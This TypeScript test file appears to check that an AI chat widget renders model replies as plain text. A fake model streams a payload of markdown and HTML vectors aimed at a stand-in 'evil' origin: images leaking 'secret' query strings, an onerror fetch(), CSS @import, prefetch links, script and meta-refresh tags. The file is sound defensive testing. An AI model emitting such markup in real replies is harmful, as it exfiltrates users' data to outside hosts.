import { expect } from 'vitest';
import { API_BASE } from '../../shared/api-path.ts';
import { type FakeOpenAi, sayInTurn, startFakeOpenAi } from '../support/fake-openai.ts';
import { embeddingPage } from '../support/hostile-pages.ts';
import { askInFrame, frameOf } from './embedder.ts';
import { eventually } from './eventually.ts';
import { openReadyWidget } from './find-windows.ts';
import { test as isolationTest } from './isolation-test.ts';
import { type IsolationStage, startIsolationStage } from './stage.ts';

/** As the isolation test, with a model behind the server that says what the test wants. */
const test = isolationTest
  // biome-ignore lint/correctness/noEmptyPattern: Vitest reads from the pattern which fixtures are wanted
  .extend('model', { scope: 'file' }, async ({}, { onCleanup }): Promise<FakeOpenAi> => {
    const model = await startFakeOpenAi();
    onCleanup(() => model.stop());
    return model;
  })
  .extend('stage', { scope: 'file' }, async ({ model }, { onCleanup }): Promise<IsolationStage> => {
    const stage = await startIsolationStage({ model: { baseUrl: model.baseUrl, apiKey: undefined, name: 'hostile' } });
    onCleanup(() => stage.stop());
    return stage;
  });

/** Everything that would make a browser fetch, if it became more than text. */
function payload(evil: string): string {
  return [
    'Here you are.',
    `![inline](${evil}/inline.png?q=secret)`,
    `![reference][pixel] and [![linked](${evil}/linked.png)](${evil}/page)`,
    `[pixel]: ${evil}/reference.png`,
    `| a | b |\n|---|---|\n| ![table](${evil}/table.png) | x |`,
    `> - ![quoted](${evil}/quoted.png)`,
    `<img src="${evil}/img.png" srcset="${evil}/set.png 2x" onerror="fetch('${evil}/js')">`,
    `<svg><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/></svg>`,
    `<style>@import "${evil}/import.css"; body { background: url(${evil}/background.png) }</style>`,
    `<p style="background:url(${evil}/style.png)">styled</p>`,
    `<link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="//${new URL(evil).host}">`,
    `<iframe src="${evil}/frame"></iframe><video src="${evil}/video" poster="${evil}/poster"></video>`,
    `<script src="${evil}/script.js"></script><base href="${evil}/">`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<${evil}/auto> ${evil}/bare [link](${evil}/link?data=secret)`,
    'The end.',
  ].join('\n\n');
}

test.for([
  ['whole', 1],
  ['in 200 pieces', 200],
] as const)(
  'case 52: the model answers with everything a browser could fetch, %s -> no request but the chat’s',
  async ([, pieces], { stage, model, page, log }) => {
    const text = payload(stage.sites.origin('evil'));
    const size = Math.ceil(text.length / pieces);
    model.answerWith((call) => {
      const parts = Array.from({ length: pieces }, (_, index) => text.slice(index * size, (index + 1) * size));
      void sayInTurn(call, parts).then(() => call.finish());
    });
    const requestsAtAll = stage.proxy.exchanges().length;
    await page.goto(stage.sites.publish('shop', embeddingPage(stage.widgetOrigin, stage.keys.shop)));
    await openReadyWidget(page);
    const frame = await frameOf(page, stage.widgetOrigin);
    await frame.getByRole('textbox').waitFor();
    const opening = () => stage.proxy.exchanges().slice(requestsAtAll);
    await eventually(() => opening().filter(({ path }) => path === `${API_BASE}/session/opened`).length).toBe(1);
    const requestsBefore = stage.proxy.exchanges().length;
    const visitsBefore = stage.sites.visits.length;

    await askInFrame(frame, 'Show me.');
    const said = frame.locator('.exchange .said');
    expect(await said.textContent()).toContain('The end.');
    expect(await said.locator('img, image, iframe, video, style, link, base, script, meta, [style]').count()).toBe(0);
    const asked = stage.proxy.exchanges().slice(requestsBefore);
    const strange = asked.filter(({ path }) => !path.startsWith(`${API_BASE}/chat`) && !path.startsWith('/assets/'));
    expect(strange.map(({ method, path }) => `${method} ${path}`)).toEqual([]);
    expect(stage.sites.visits.slice(visitsBefore)).toEqual([]);
    expect(log.complaints).toEqual([]);
  },
);
